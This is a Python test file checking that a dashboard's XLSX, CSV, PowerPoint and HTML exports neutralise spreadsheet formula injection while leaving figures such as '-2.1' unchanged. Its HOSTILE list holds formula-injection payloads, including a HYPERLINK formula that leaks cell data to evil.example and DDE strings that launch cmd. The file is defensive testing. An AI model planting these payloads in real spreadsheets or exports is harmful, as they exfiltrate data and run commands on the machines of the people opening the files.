"""Formula text in downloads (issue 30): XLSX and board-pack cells carrying text that starts with
=, +, -, @, a tab or a carriage return are made inert, like the CSV export; figures stay as they
are. The template downloads run on SQLite and PostgreSQL."""

from __future__ import annotations

import dataclasses
import io

import pytest
import sqlalchemy as sa
from markupsafe import escape
from openpyxl import load_workbook
from pptx import Presentation

from dashboard.board_pack.model import Table
from dashboard.board_pack.pdf import build_html
from dashboard.board_pack.pptx_builder import build_pptx
from data_access.db import session_scope
from data_access.models import Locality
from data_access.spreadsheet_safety import neutralise_text
from data_access.templates import template_csv, template_xlsx
from tests.support.import_corpus import PERIOD, seed_reference
from tests.support.pack_factory import hand_built_content

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_store(store: sa.Engine) -> sa.Engine:
    seed_reference(store)
    with session_scope(store) as session:
        session.add(Locality(code="=1+2", name=HOSTILE[0], child_population=10))
        session.add(Locality(code="@A1", name=HOSTILE[3], child_population=10))
    return store


def test_the_xlsx_template_keeps_hostile_text_as_text(hostile_store: sa.Engine) -> None:
    data = template_xlsx(engine=hostile_store, agency_code="POLICE", period_code=PERIOD)
    workbook = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell would run"
    hostile = [
        c for c in cells if isinstance(c.value, str) and c.value in {*HOSTILE, "=1+2", "@A1"}
    ]
    assert {c.value for c in hostile} >= {"=1+2", HOSTILE[0], "@A1", HOSTILE[3]}
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)


def test_the_csv_template_neutralises_hostile_text(hostile_store: sa.Engine) -> None:
    text = template_csv(engine=hostile_store, agency_code="POLICE", period_code=PERIOD).decode(
        "utf-8-sig"
    )
    assert ",'=1+2," in text and ",'@A1," in text
    assert ",=1+2," not in text


@pytest.mark.parametrize("hostile", HOSTILE)
def test_pack_cells_carrying_formula_text_are_made_inert(hostile: str) -> None:
    content = hand_built_content(charts=False, scorecard_rows=2)
    challenges = Table(
        columns=("Agency", "Standard", "Date", "Status", "Challenge"),
        rows=((hostile, "S1", "1 Oct 2025", "open", hostile),),
    )
    content = dataclasses.replace(content, challenges=challenges)
    deck = Presentation(io.BytesIO(build_pptx(content)))
    texts = [
        cell.text
        for slide in deck.slides
        for shape in slide.shapes
        if shape.has_table
        for row in shape.table.rows
        for cell in row.cells
    ]
    # python-pptx writes a carriage return as "_x000D_"; the cell still starts with a quote.
    shown = hostile.replace("\r", "_x000D_")
    assert any(t == "'" + shown for t in texts)
    assert not any(t.startswith(("=", "+", "@", "\t", "\r")) for t in texts)
    assert not any(t.startswith("-") and t == hostile for t in texts)
    assert str(escape("'" + hostile)) in build_html(content)


@pytest.mark.parametrize(
    "figure", ["-2.1", "+3", "-12.5%", "-4 pp", "-1,234", "+0.5 percentage points"]
)
def test_figures_in_the_pack_are_left_as_they_are(figure: str) -> None:
    assert neutralise_text(figure) == figure
